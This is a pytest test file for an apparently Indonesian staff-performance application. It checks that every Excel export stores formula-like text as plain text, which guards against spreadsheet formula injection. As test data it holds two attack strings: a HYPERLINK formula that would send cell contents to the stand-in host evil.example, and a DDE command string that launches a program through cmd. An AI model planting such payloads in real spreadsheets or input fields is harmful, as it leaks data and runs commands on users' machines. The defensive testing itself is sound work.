"""Formula injection: text that a spreadsheet could take as a formula (starting with =, +,
-, @, tab or CR) is written as text in every export kind, whoever typed it (a name saved
on a person, imported with the people list, or a unit's name)."""

import pytest
from openpyxl import load_workbook

from ekinerja.ekspor import FORMULA_START, JENIS, ekspor_jalankan, sel_teks
from ekinerja.models import Ekspor, Pegawai, UnitKerja

from ..kinerja.conftest import tahun  # noqa: F401

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A3,"detail")'
UNIT = "+1+cmd|' /C calc'!A0"


@pytest.mark.parametrize("start", FORMULA_START)
def test_a_formula_like_text_becomes_a_text_cell(start):
    from openpyxl import Workbook

    sheet = Workbook(write_only=True).create_sheet()
    cell = sel_teks(sheet, f"{start}SUM(A1:A9)")
    assert cell.data_type == "s" and cell.value == f"{start}SUM(A1:A9)"
    assert sel_teks(sheet, "Budi") == "Budi" and sel_teks(sheet, -3) == -3


@pytest.mark.parametrize("jenis", sorted(JENIS))
def test_every_export_writes_formula_like_text_as_text(jenis, pegawai, atasan, bidang_a1,
                                                       opd_a, admin_bkd, tahun, settings,  # noqa: F811
                                                       tmp_path):
    settings.MEDIA_ROOT = tmp_path
    Pegawai.objects.filter(pk=pegawai.pk).update(nama=PAYLOAD)
    UnitKerja.objects.filter(pk=bidang_a1.pk).update(nama=UNIT)
    if jenis == "progres_harian":  # rows only for reported work of the period
        import datetime as dt

        from kinerja.models import Aktivitas

        Aktivitas.objects.create(pegawai=pegawai, tanggal=dt.date(tahun.tahun, 10, 1),
                                 mulai=dt.time(8), selesai=dt.time(9), menit=60,
                                 uraian="@SUM(A1)", kategori="tugas_tambahan",
                                 status="diajukan")
    if jenis == "bkn_laporan_skp":  # a row per SKP of the year
        from kinerja.models import Skp

        Skp.objects.create(pegawai=pegawai, tahun=tahun, jabatan=pegawai.jabatan,
                           unit=pegawai.unit)
    if jenis.startswith("bkn_penilaian"):  # a row per evaluation past its draft
        from penilaian.models import Evaluasi

        for nomor in (0, 10):
            Evaluasi.objects.create(pegawai=pegawai, tahun=tahun, nomor=nomor, status="final",
                                    rating_hasil="sesuai", rating_perilaku="sesuai",
                                    predikat="baik")
    if jenis == "tpp_bayar":  # a row per person with a computed TPP
        from kinerja.models import Periode
        from penilaian.tpp import tpp_hitung

        tpp_hitung(periode=Periode.objects.get(tahun=tahun, nomor=10),
                   pegawai_ids=[pegawai.pk])
    if jenis == "angka_kredit_layak":  # a row per person in a functional post
        from ekinerja.models import Jabatan

        Jabatan.objects.filter(pk=pegawai.jabatan_id).update(jenis="fungsional",
                                                             jenjang="ahli_pertama")
    ekspor = Ekspor.objects.create(jenis=jenis, unit=opd_a, diminta_oleh=admin_bkd,
                                   parameter={"tahun": tahun.tahun, "nomor": 10})
    assert ekspor_jalankan(ekspor.pk)
    ekspor.refresh_from_db()
    book = load_workbook(ekspor.berkas.path)  # not read-only: the cell types are kept
    cells = [c for row in book.worksheets[0].iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith(FORMULA_START)]
    assert {c.value for c in cells} & {PAYLOAD, UNIT}, "the export shows the typed text"
    assert [c.coordinate for c in cells if c.data_type != "s"] == []
